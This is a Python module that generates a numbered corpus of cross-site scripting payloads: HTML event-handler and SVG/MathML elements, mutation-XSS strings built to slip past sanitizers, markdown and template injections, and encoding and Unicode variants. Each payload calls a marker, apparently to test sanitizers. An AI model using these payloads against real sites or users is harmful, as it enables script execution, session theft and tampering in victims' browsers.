"""Texts that try to run a script: `payloads()` gives over a thousand, made from parts; each calls xss(its number)."""

import base64
import html
from collections.abc import Iterator

# Elements that run something by themselves. CALL is the script.
ELEMENTS = [
    "<script>CALL</script>",
    "<script src=data:text/javascript,CALL></script>",
    "<img src=x onerror=CALL>",
    "<img/src=x/onerror=CALL//",
    "<IMG SRC=x OnErRoR='CALL'>",
    "<svg onload=CALL>",
    "<svg/onload=CALL></svg>",
    "<svg><script>CALL</script></svg>",
    "<svg><script href=data:text/javascript,CALL /></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s></svg>",
    "<svg><set onbegin=CALL attributeName=x></svg>",
    "<svg><a xlink:href=javascript:CALL><text x=9 y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror=CALL /></svg>#x'></svg>",
    "<svg><style><img src=x onerror=CALL></style></svg>",
    "<math><mtext><img src=x onerror=CALL></mtext></math>",
    "<math href=javascript:CALL>x</math>",
    "<math><maction actiontype=statusline#http://out.invalid xlink:href=javascript:CALL>x</maction></math>",
    "<body onload=CALL>",
    "<video src=x onerror=CALL></video>",
    "<video><source onerror=CALL></video>",
    "<audio src=x onerror=CALL></audio>",
    "<input autofocus onfocus=CALL>",
    "<select autofocus onfocus=CALL></select>",
    "<textarea autofocus onfocus=CALL></textarea>",
    "<details open ontoggle=CALL><summary>x</summary></details>",
    "<div popover id=p onbeforetoggle=CALL></div>",
    "<div style=animation-name:x onanimationstart=CALL>x</div>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=CALL>x</b>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "<iframe src=javascript:parent.CALL></iframe>",
    "<object data=javascript:CALL></object>",
    "<object data=data:text/html,<script>parent.CALL</script>></object>",
    "<embed src=javascript:CALL>",
    "<link rel=stylesheet href=http://out.invalid/x.css onerror=CALL>",
    "<link rel=prefetch href=http://out.invalid/x>",
    "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "<meta http-equiv=refresh content='0;url=http://out.invalid/'>",
    "<base href=http://out.invalid/>",
    "<style>@import url(http://out.invalid/x.css);</style>",
    "<b style=background:url(http://out.invalid/x.png)>x</b>",
    "<img src=http://out.invalid/x.png srcset=http://out.invalid/y.png>",
    "<form action=javascript:CALL><button autofocus>x</button></form>",
    "<form><button formaction=javascript:CALL>x</button></form>",
    "<a href=javascript:CALL autofocus onfocus=CALL>x</a>",
    "<template><script>CALL</script></template><img src=x onerror=CALL>",
    "<x onclick=CALL tabindex=1 autofocus onfocus=CALL>x</x>",
    "<marquee onstart=CALL>x</marquee>",
]

# What parses one way in a sanitizer and another way in the page (mutation XSS).
MUTATED = [
    "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "<svg></p><style><a title='</style><img src=x onerror=CALL>'>",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=CALL&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
    "<table><td><svg><desc><table><style><img src=x onerror=CALL></style></table></desc></svg>",
    "<textarea><svg title='</textarea><img src=x onerror=CALL>'>",
    "<title><a title='</title><img src=x onerror=CALL>'>",
    "<xmp><p title='</xmp><img src=x onerror=CALL>'>",
    "<plaintext><img src=x onerror=CALL>",
    "<select><template><img src=x onerror=CALL></template></select>",
    "<!--><img src=x onerror=CALL>-->",
    "<!--!><img src=x onerror=CALL>--!>",
    "<![CDATA[<img src=x onerror=CALL>]]>",
    "<?xml <img src=x onerror=CALL> ?>",
    "<a title='`' onmouseover='CALL' x='`'>x</a>",
]

MARKDOWN = [
    "[x](javascript:CALL)",
    "[x](JaVaScRiPt:CALL)",
    "[x](java\tscript:CALL)",
    "[x](&#106;avascript:CALL)",
    "[x](javascript&colon;CALL)",
    "[x](<javascript:CALL>)",
    "[x](\x01javascript:CALL)",
    "[x](vbscript:CALL)",
    "[x](data:text/html;base64,BASE64)",
    "[x](data:image/svg+xml;base64,BASE64)",
    "[x](http://out.invalid/ \"' onfocus=CALL autofocus='\")",
    "[x](http://out.invalid/\" onfocus=CALL autofocus=\")",
    "![x](http://out.invalid/x.png)",
    "![x](x\" onerror=\"CALL)",
    "![x\" onerror=\"CALL](x)",
    "![x](data:image/svg+xml;base64,BASE64)",
    "<javascript:CALL>",
    "<http://out.invalid/\" onfocus=CALL autofocus=\">",
    "[x]\n\n[x]: javascript:CALL",
    "[x][y]\n\n[y]: http://out.invalid/ '\" onfocus=CALL autofocus=\"'",
    "```\" onmouseover=CALL x=\"\ny\n```",
    "```html\n<img src=x onerror=CALL>\n```",
    "`<img src=x onerror=CALL>`",
    "    <img src=x onerror=CALL>",
    "| <img src=x onerror=CALL> | [x](javascript:CALL) |\n|---|---|\n| ![x](http://out.invalid/x) | y |",
    "> <script>CALL</script>",
    "- <svg onload=CALL>",
    "# <img src=x onerror=CALL>",
    "**<img src=x onerror=CALL>**",
    "$\\href{javascript:CALL}{x}$",
    "$$\\unicode{<img src=x onerror=CALL>}$$",
    "[![x](javascript:CALL)](javascript:CALL)",
]  # fmt: skip

TEMPLATES = [
    "{{constructor.constructor('CALL')()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}CALL",
    "{% raw %}<img src=x onerror=CALL>{% endraw %}",
    "${CALL}",
    "#{CALL}",
    "<%= CALL %>",
    "{{= CALL }}",
    "*{CALL}",
    "[[CALL]]",
    "__proto__[innerHTML]=<img src=x onerror=CALL>",
    "'-CALL-'",
    '"-CALL-"',
    "\\'-CALL//",
    "\\u003cimg src=x onerror=CALL\\u003e",
    "\u2028CALL\u2029",
    "\u202e>/rorreno CALL=\u202c<img src=x onerror=CALL>",
    "\u200b<img src=x onerror=CALL>",
    "\ufeff<script>CALL</script>",
    "＜img src=x onerror=CALL＞",
    "<\u0130mg src=x onerror=CALL>",
]

# What may stand around it: ways out of an attribute, an element, a comment, a string.
AROUND = [
    "{}",
    '{}"',
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</script>{}",
    "</style>{}",
    "</title>{}",
    "-->{}",
    "]]>{}",
    "x\n\n{}\n\ny",
]


def _encoded(text: str) -> Iterator[str]:
    yield text
    yield html.escape(text)
    yield html.escape(html.escape(text))


def payloads() -> list[str]:
    """Each with its own number."""
    texts = [
        *(around.replace("{}", one) for one in (*ELEMENTS, *MUTATED) for around in AROUND),
        *(way for one in (*ELEMENTS, *MUTATED) for way in list(_encoded(one))[1:]),
        *(way for one in (*MARKDOWN, *TEMPLATES) for way in _encoded(one)),
        *(around.replace("{}", one) for one in (*MARKDOWN, *TEMPLATES) for around in ('">{}', "- {}", "**{}**")),
    ]
    made = []
    for number, text in enumerate(dict.fromkeys(texts)):
        call = f"xss({number})"
        inner = base64.b64encode(f"<script>parent.{call}</script>".encode()).decode()
        made.append(text.replace("CALL", call).replace("BASE64", inner))
    return made
